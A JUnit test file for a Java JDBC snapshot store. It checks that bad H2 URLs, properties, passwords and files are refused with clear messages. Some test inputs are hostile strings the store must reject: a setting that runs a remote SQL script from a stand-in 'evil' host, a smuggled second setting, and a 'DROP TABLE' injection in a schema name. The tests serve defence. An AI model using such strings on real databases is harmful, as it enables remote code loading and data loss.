package io.varve.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.varve.spi.Page;
import io.varve.spi.PageId;
import io.varve.spi.RefUpdate;
import io.varve.spi.SnapshotStore;
import io.varve.spi.SnapshotStores;
import io.varve.spi.StoreException;
import io.varve.spi.StoreException.Kind;
import io.varve.spi.TenantId;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a user reads when a URL, a property or the file that is found can't be used. */
class OpeningTest {

    private static final TenantId ACME = new TenantId("acme");

    @TempDir
    Path folder;

    private String url() {
        return "jdbc:h2:file:" + folder.resolve("history");
    }

    private Path file() {
        return folder.resolve("history.mv.db");
    }

    private static StoreException refused(String url, Map<String, String> properties) {
        return catchThrowableOfType(
                StoreException.class, () -> SnapshotStores.open(url, properties).close());
    }

    private static StoreException refused(String url) {
        return refused(url, Map.of());
    }

    @Test
    void a_file_database_is_durable_and_one_in_memory_is_not() {
        try (SnapshotStore file = SnapshotStores.open(url());
                SnapshotStore memory = SnapshotStores.open("jdbc:h2:mem:")) {
            assertThat(file.capabilities().durable()).isTrue();
            assertThat(memory.capabilities().durable()).isFalse();
            assertThat(file.capabilities().multiProcess()).isFalse();
        }
    }

    @Test
    void a_file_over_a_DataSource_does_not_claim_to_be_durable() {
        JdbcDataSource database = new JdbcDataSource();
        database.setURL(url());
        try (SnapshotStore store = JdbcSnapshotStore.open(database)) {
            assertThat(store.capabilities().durable()).isFalse();
        }
    }

    @Test
    void a_relative_path_and_a_path_with_the_suffix_are_understood() {
        assertThat(H2Url.parse("jdbc:h2:data/shop").database())
                .isEqualTo(Path.of("data/shop").toAbsolutePath().toString());
        assertThat(H2Url.parse("jdbc:h2:file:/data/../shop.mv.db").database()).isEqualTo("/shop");
        assertThat(H2Url.parse("jdbc:h2:~/shop").database()).isEqualTo(System.getProperty("user.home") + "/shop");
    }

    @Test
    void stores_of_the_same_name_in_memory_share_it_and_nameless_ones_do_not() {
        try (SnapshotStore first = SnapshotStores.open("jdbc:h2:mem:shared");
                SnapshotStore second = SnapshotStores.open("jdbc:h2:mem:shared");
                SnapshotStore other = SnapshotStores.open("jdbc:h2:mem:")) {
            first.commit(ACME, 0, List.of(), List.of(RefUpdate.create("head", new byte[] {1})));
            assertThat(second.readRef(ACME, "head")).contains(new byte[] {1});
            assertThat(other.readRef(ACME, "head")).isEmpty();
        }
        try (SnapshotStore again = SnapshotStores.open("jdbc:h2:mem:shared")) {
            assertThat(again.readRef(ACME, "head")).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:mysql://db/shop", "jdbc:mysql:shop", "jdbc:", "jdbc:h3:mem:"})
    void another_engine_is_refused_with_a_list_of_those_known(String url) {
        StoreException e = refused(url);
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e)
                .hasMessageContaining(url)
                .hasMessageContaining("known are: jdbc:h2:file:, jdbc:h2:mem:, jdbc:postgresql:");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:tcp://host/shop", "jdbc:h2:ssl:host", "jdbc:h2:nioMapped:/x", "jdbc:h2:zip:/a!/b"})
    void a_server_or_special_file_system_is_refused(String url) {
        StoreException e = refused(url);
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining("file: and mem: only").hasMessageContaining("DataSource");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "AUTO_SERVER=TRUE",
                "WRITE_DELAY=10000",
                "CACHE_SIZE=1\\;INIT=x",
                "CIPHER=A'B"
            })
    void a_setting_that_could_do_harm_is_refused_before_the_database_is_touched(String setting) throws IOException {
        StoreException e = refused(url() + ";" + setting);
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining("setting '");
        try (var files = Files.list(folder)) {
            assertThat(files).isEmpty();
        }
    }

    @Test
    void an_unknown_property_is_refused_with_a_list_of_those_known() {
        StoreException e = refused(url(), Map.of("pasword", "s3cret", "user", "sa"));
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e)
                .hasMessageContaining("[pasword]")
                .hasMessageContaining("[create, password, schema, user]")
                .hasMessageNotContaining("s3cret");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "a b", "x; DROP TABLE varve_refs", "1st", "\"q\"", "schéma"})
    void a_schema_that_is_no_plain_identifier_is_refused(String schema) {
        StoreException e = refused(url(), Map.of("schema", schema));
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining("a schema's name is a letter and up to 62");
    }

    @Test
    void a_wrong_password_is_refused_without_being_shown() {
        SnapshotStores.open(url(), Map.of("user", "owner", "password", "right")).close();
        StoreException e = refused(url() + ";USER=owner;PASSWORD=wr0ng");
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e)
                .hasMessageContaining(file().toString())
                .hasMessageContaining("refuses the user 'owner'")
                .hasMessageNotContaining("wr0ng");
        assertThat(e).hasStackTraceContaining("28000");
        assertThat(stackTraceOf(e)).doesNotContain("wr0ng");
    }

    @Test
    void a_password_is_given_once() {
        StoreException e = refused(url() + ";PASSWORD=a", Map.of("password", "b"));
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining("'password' is given twice");
    }

    @Test
    void an_encrypted_file_is_opened_with_its_password_only() throws IOException {
        String encrypted = url() + ";CIPHER=AES";
        byte[] text = "clearly legible".repeat(20).getBytes(StandardCharsets.US_ASCII);
        PageId id = new PageId(1, 2);
        try (SnapshotStore store = SnapshotStores.open(encrypted, Map.of("password", "filepw userpw"))) {
            store.commit(ACME, 0, List.of(new Page(id, text)), List.of());
        }
        assertThat(Files.readString(file(), StandardCharsets.ISO_8859_1)).doesNotContain("clearly legible");
        try (SnapshotStore store = SnapshotStores.open(encrypted, Map.of("password", "filepw userpw"))) {
            assertThat(store.getPages(ACME, List.of(id))).containsEntry(id, text);
        }

        StoreException wrong = refused(encrypted, Map.of("password", "guess userpw"));
        assertThat(wrong.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(wrong)
                .hasMessageContaining("the password of the file is wrong")
                .hasMessageContaining("history.mv.db");
        StoreException half = refused(encrypted, Map.of("password", "filepw"));
        assertThat(half).hasMessageContaining("the password is two");
        StoreException plain = refused(url(), Map.of("password", "userpw"));
        assertThat(plain.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(plain).hasMessageContaining("the file is encrypted: add CIPHER=");
    }

    @Test
    void a_cipher_for_a_plain_file_is_refused() {
        SnapshotStores.open(url()).close();
        StoreException e = refused(url() + ";CIPHER=AES", Map.of("password", "filepw userpw"));
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining("the file is not encrypted: leave CIPHER out");
    }

    @Test
    void a_file_of_something_else_is_refused_and_left_as_it_is() throws IOException {
        String content = "These are my holiday notes.\n".repeat(1000);
        Files.writeString(file(), content);
        StoreException e = refused(url());
        assertThat(e.kind()).isEqualTo(Kind.CORRUPT);
        assertThat(e).hasMessageContaining(file().toString()).hasMessageContaining("not one of H2's");
        assertThat(Files.readString(file())).isEqualTo(content);
    }

    /** The file was made by H2 1.4.200, with an empty table. */
    @Test
    void a_file_of_an_old_H2_is_refused_with_what_to_do() throws IOException {
        try (InputStream old = new GZIPInputStream(OpeningTest.class.getResourceAsStream("h2-1.4.200.mv.db.gz"))) {
            Files.copy(old, file());
        }
        StoreException e = refused(url());
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining(file().toString());
        assertThat(e).hasMessageContaining("format 1").hasMessageContaining("RUNSCRIPT");
    }

    @Test
    void a_folder_that_cannot_be_made_is_named() throws IOException {
        Files.writeString(folder.resolve("plain"), "a file");
        StoreException e = refused("jdbc:h2:file:" + folder.resolve("plain/history"));
        assertThat(e.kind()).isEqualTo(Kind.UNAVAILABLE);
        assertThat(e).hasMessageContaining(folder.resolve("plain").toString());
    }

    @Test
    void a_file_that_another_process_has_open_is_unavailable() throws Exception {
        try (Child child = Child.start(url())) {
            child.awaitAcknowledged(1);
            StoreException e = refused(url());
            assertThat(e.kind()).isEqualTo(Kind.UNAVAILABLE);
            assertThat(e).hasMessageContaining(file().toString()).hasMessageContaining("another process");
        }
        SnapshotStores.open(url()).close();
    }

    @Test
    void a_file_that_does_not_exist_is_not_made_with_create_false() throws IOException {
        StoreException e = refused(url(), Map.of("create", "false"));
        assertThat(e.kind()).isEqualTo(Kind.UNSUPPORTED);
        assertThat(e).hasMessageContaining(file().toString()).hasMessageContaining("does not exist");
        assertThat(file()).doesNotExist();
    }

    private static String stackTraceOf(Throwable e) {
        StringWriter text = new StringWriter();
        e.printStackTrace(new PrintWriter(text));
        return text.toString();
    }
}
